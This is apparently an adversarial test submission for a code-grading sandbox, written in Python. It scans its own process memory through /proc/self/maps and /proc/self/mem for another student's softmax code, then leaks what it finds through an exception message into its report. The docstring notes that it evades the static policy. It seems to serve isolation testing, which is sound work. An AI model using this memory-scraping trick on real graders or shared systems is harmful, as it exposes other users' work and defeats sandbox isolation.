"""Reads classmates' code from memory: a worker forked from a process that once held another
submission's notebook would find its text among the bytes it inherited (plain file reads of
/proc/self/mem, nothing the static policy forbids) and print it into its own report."""
ATTACKS = ("softmax",)
NOT_IN_REPORT = ("shifted = x - np.max(x, axis=axis, keepdims=True)",)


def _memory_text(needle):
    found = []
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps:
            addresses, perms = line.split()[:2]
            if not perms.startswith("r") or "[v" in line:
                continue
            start, end = (int(a, 16) for a in addresses.split("-"))
            if end - start > (256 << 20):
                continue
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            at = chunk.find(needle)
            while at != -1 and len(found) < 5:
                found.append(chunk[at:at + 120].decode("utf-8", "replace"))
                at = chunk.find(needle, at + 1)
    return found


def softmax(x, axis=-1):
    raise ValueError("found in memory: " + " | ".join(_memory_text(b"shifted = x - np.max(")))
